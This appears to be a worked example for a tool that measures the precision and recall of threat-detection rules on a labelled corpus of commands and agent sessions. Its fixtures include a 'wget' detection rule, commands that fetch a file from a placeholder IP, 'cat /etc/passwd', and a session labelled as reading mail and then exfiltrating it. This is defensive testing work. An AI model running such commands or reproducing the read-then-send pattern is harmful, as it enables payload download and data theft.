Measuring rules on a labelled corpus.

A rule, three rows about it, and two sessions of an agent:

    $ mkdir -p rules/ttp corpus && cat > rules/ttp/R1.yaml <<'X'
    > rule_id: R1
    > rule_version: 1
    > name: download
    > applies_to: [command]
    > match: {pattern: '\bwget\b'}
    > emits: [{tactic: TA0011, technique_id: T1105, confidence: 0.85}]
    > evidence_fields: [command_text]
    > X
    $ echo 'tools: []' > rules/tools.yaml
    $ cat > corpus/commands.jsonl <<'X'
    > {"payload":{"command_text":"wget http://192.0.2.1/x"},"expected_rule_ids":["R1"],"label":"fetch"}
    > {"payload":{"command_text":"man wget"},"expected_rule_ids":[],"label":"manual"}
    > {"payload":{"command_text":"curl -O http://192.0.2.1/x"},"expected_rule_ids":["R1"],"label":"other program"}
    > X
    $ cat > corpus/sessions.jsonl <<'X'
    > {"session":[{"source_kind":"tool_call","payload":{"tool":"list","sink_class":"read_only"}},{"source_kind":"tool_call","payload":{"tool":"list","sink_class":"read_only"}},{"source_kind":"tool_call","payload":{"tool":"read_mail","sink_class":"read_only","source_tainted":true}},{"source_kind":"tool_call","payload":{"tool":"send_mail","sink_class":"network_egress"}}],"expected_anomalies":["read_then_exfil"],"label":"sent"}
    > {"session":[{"source_kind":"tool_call","payload":{"tool":"list","sink_class":"read_only"}},{"source_kind":"tool_call","payload":{"tool":"list","sink_class":"read_only"}}],"expected_anomalies":["tool_diversity_spike"],"label":"quiet"}
    > X

    $ ttp precision -q corpus --rules rules/ttp --min-matches 1 --show all; echo "status $?"
    rule  name      TP  FP  FN  precision % (95 %)  recall % (95 %)  declared  target %  verdict
    R1    download  1   1   1   50.0 (9.5–90.5)     50.0 (9.5–90.5)  0.85      95        misses the target
    
    Declared confidence against measured precision
    declared     mean %  measured % (95 %)  cases
    0.85 to 0.9  85.0    50.0 (9.5–90.5)    2
    
    Anomalies of sessions
    anomaly               TP  FP  FN  precision % (95 %)  recall % (95 %)
    read_then_exfil       1   0   0   100.0 (20.7–100.0)  100.0 (20.7–100.0)
    tool_diversity_spike  0   0   1   –                   0.0 (0.0–79.3)
    
    Cohorts
    cohort    rows
    commands  3
    
    Rows
    what  name  row            matched  text
    FP    R1    manual         wget     man wget
    FN    R1    other program           curl -O http://192.0.2.1/x
    
    3 rows; 0 meets the target; 1 misses the target; 0 not enough evidence; 0 untested
    status 1
    $ ttp precision -q corpus --rules rules/ttp --format json > report.json; jq -c '.lines[0] | [.name, .tp, .fp, .fn]' report.json; jq -c '.anomalies[] | [.name, .tp, .fn]' report.json
    ["R1",1,1,1]
    ["read_then_exfil",1,0]
    ["tool_diversity_spike",0,1]
    $ ttp precision -q corpus --rules rules/ttp --baseline report.json --format csv | head -3
    name,title,tp,fp,fn,support,precision,precision_low,precision_high,recall,recall_low,recall_high,declared,target,verdict
    R1,download,1,1,1,2,0.500000,0.094531,0.905469,0.500000,0.094531,0.905469,0.850000,0.950000,misses the target

A rule that is named twice is expected once:

    $ mkdir twice; echo '{"source_kind":"command","payload":{"command_text":"nothing"},"expected_rule_ids":["R1","R1"]}' > twice/x.jsonl; ttp precision -q twice --rules rules/ttp --format json | jq -c '.lines[0] | [.name, .tp, .fp, .fn]'
    ["R1",0,0,1]

Collecting from a database without the tables of some kinds:

    $ sqlite3 honeypot.db "CREATE TABLE attackers (uuid TEXT PRIMARY KEY, identity_id TEXT, last_seen TEXT, commands TEXT); INSERT INTO attackers VALUES ('a1', NULL, '2026-11-05 00:00:00', '[{\"command_text\":\"id\"}]')"
    $ ttp corpus collect --db honeypot.db --exclude-ip 192.0.2.1 --out collected; jq -c .payload collected/commands.jsonl
    ttp: skipped, for want of their tables: canary (canary_triggers), email (emails), auth (auth_attempts), intel (intel_records), session (sessions)
    1 event, 0 of excluded addresses; 1 row in collected
    {"command_text":"id"}

What a rule of the shipped pack matched stands beside its false alarm:

    $ echo '{"source_kind":"command","payload":{"command_text":"cat /etc/passwd"},"expected_rule_ids":["R0013"],"label":"m2"}' > alarm.jsonl; ttp precision alarm.jsonl --rules "$RULES" --show fp --format json -q | jq -c '.offences[]'
    {"kind":"fp","name":"R0158","label":"m2","matched":"cat","text":"cat /etc/passwd"}
